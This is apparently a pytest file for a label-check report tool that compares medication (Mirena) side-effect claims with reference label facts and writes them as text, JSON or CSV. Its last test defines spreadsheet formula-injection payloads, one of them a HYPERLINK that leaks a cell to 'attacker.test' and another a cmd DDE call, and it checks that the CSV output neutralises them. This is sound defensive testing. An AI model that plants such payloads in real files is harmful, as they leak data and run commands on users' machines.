"""explorer.audit.report: the label check of a corpus as text, JSON or CSV, and where its facts come from.

Label facts are not the corpus's business: ``explorer.load`` attaches none, so the report reads the
reference folder, unless a caller attached facts with ``dataclasses.replace(corpus, label_facts=...)``.
"""
from __future__ import annotations

import dataclasses
import io
import json

import pandas as pd
import pytest

from explorer.audit.claims import CLAIM_COLUMNS
from explorer.audit.reference import load_label_facts
from explorer.audit.report import audit_report, audit_tables, claims_csv
from explorer.audit.vocabulary import COVERAGE_NOTE
from explorer.config import REFERENCE_DIR

from .conftest import REFERENCE_CSV


@pytest.fixture(scope="module")
def perforation_as_contraindication(tmp_path_factory):
    """A reference folder whose only change: uterine perforation is a contraindication, not a warning."""
    folder = tmp_path_factory.mktemp("changed-reference")
    for name in ("mirena_label_numbers.csv", "synonyms.csv"):
        (folder / name).write_bytes((REFERENCE_DIR / name).read_bytes())
    text = REFERENCE_CSV.read_text(encoding="utf-8")
    assert text.count("uterine perforation,warning") == 1
    (folder / "mirena_label_facts.csv").write_text(
        text.replace("uterine perforation,warning", "uterine perforation,contraindication"), encoding="utf-8")
    return folder


def _status_of(tables: dict[str, pd.DataFrame], claim: str) -> str:
    claims = tables["claims"]
    return str(claims.loc[claims["claim"] == claim, "status"].iloc[0])


def test_text_report_of_the_seed(seed_corpus):
    text = audit_report(seed_corpus)
    assert text.startswith("LABEL CHECK\nNote: " + COVERAGE_NOTE)
    assert "CLAIMS: 9 side-effect claims; by status: label adverse reaction 1, label warning 2, " \
           "superseded label only 1, not among the captured label facts 5" in text
    assert "Tier check: 1 claim(s) where the page's tier and the label disagree:\n" \
           "  data/raw/mirena-back-pain.txt:35 Headaches: page says less common" in text
    assert "PREMISES: 36 conditions" in text and "Breast Cancer" in text and "contraindicated" in text
    # a warning or adverse reaction is a note beside the status, never the status
    assert "label warning" not in text.split("PREMISES:")[1].split("NUMBERS:")[0] and "also a warning" in text
    assert "NUMBERS: 1 durations and percentages in the page text, 1 flagged" in text
    assert "data/raw/mirena-back-pain.txt:14 'five to seven years'" in text
    # "not in the label" is only ever said to deny it
    assert "not in the label" not in text.replace(COVERAGE_NOTE, "")


def test_json_report_holds_the_three_tables_and_nothing_else(seed_corpus):
    data = json.loads(audit_report(seed_corpus, "json"))
    assert list(data) == ["coverage_note", "claims", "premises", "numbers"]  # no skipped sources any more
    assert data["coverage_note"] == COVERAGE_NOTE
    assert [len(data[k]) for k in ("claims", "premises", "numbers")] == [9, 36, 1]
    perforation = next(c for c in data["claims"] if c["claim"] == "Perforation of the uterus")
    assert (perforation["status"], perforation["line"]) == ("label warning", 40)
    assert data["numbers"][0]["text"] == "five to seven years" and data["numbers"][0]["flagged"] is True


def test_csv_report_is_the_three_tables_after_the_coverage_note(seed_corpus):
    text = audit_report(seed_corpus, "csv")
    lines = text.splitlines()
    assert lines[0] == f"# {COVERAGE_NOTE}"
    heads = [i for i, line in enumerate(lines) if line in ("# claims", "# premises", "# numbers")]
    assert [lines[i] for i in heads] == ["# claims", "# premises", "# numbers"]
    parts = [lines[a + 1:b] for a, b in zip(heads, heads[1:] + [len(lines)])]
    claims = pd.read_csv(io.StringIO("\n".join(parts[0])))
    assert list(claims.columns) == list(CLAIM_COLUMNS) and len(claims) == 9
    assert len(pd.read_csv(io.StringIO("\n".join(parts[2])))) == 1


def test_unknown_report_format_is_refused(seed_corpus):
    with pytest.raises(ValueError, match="unknown format"):
        audit_report(seed_corpus, "xml")


def test_claims_csv_round_trip(claims):
    text = claims_csv(claims)
    assert text.startswith("# " + COVERAGE_NOTE)
    back = pd.read_csv(io.StringIO(text), skiprows=1)
    assert list(back.columns) == list(CLAIM_COLUMNS)
    assert back["status"].tolist() == claims["status"].astype(str).tolist()
    assert back["citation"].fillna("").tolist() == claims["citation"].fillna("").tolist()


def test_loaded_corpus_has_no_facts_and_the_report_reads_the_reference_folder(
        seed_corpus, perforation_as_contraindication):
    assert seed_corpus.label_facts is None
    assert _status_of(audit_tables(seed_corpus), "Perforation of the uterus") == "label warning"
    changed = audit_tables(seed_corpus, perforation_as_contraindication)
    assert _status_of(changed, "Perforation of the uterus") == "label contraindication"


def test_facts_attached_to_the_corpus_are_used_before_the_reference_folder(
        seed_corpus, perforation_as_contraindication):
    attached = dataclasses.replace(seed_corpus, label_facts=load_label_facts(perforation_as_contraindication))
    assert _status_of(audit_tables(attached), "Perforation of the uterus") == "label contraindication"
    # attached facts win even when another reference folder is named
    assert _status_of(audit_tables(attached, REFERENCE_DIR), "Perforation of the uterus") == "label contraindication"


FORMULA_NAMES = ['=HYPERLINK("http://attacker.test/?leak="&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0",
                 "+Dizziness", "-Fainting"]


def test_csv_report_cells_never_run_as_spreadsheet_formulas(formula_corpus):
    lines = audit_report(formula_corpus, "csv").splitlines()
    claims_part = lines[lines.index("# claims") + 1:lines.index("# premises")]
    claims = pd.read_csv(io.StringIO("\n".join(claims_part)))
    assert sorted(claims["claim"]) == sorted("'" + name for name in FORMULA_NAMES)
    assert pd.api.types.is_integer_dtype(claims["line"])  # numbers stay numbers
    back = pd.read_csv(io.StringIO(claims_csv(audit_tables(formula_corpus)["claims"])), skiprows=1)
    assert sorted(back["claim"]) == sorted("'" + name for name in FORMULA_NAMES)
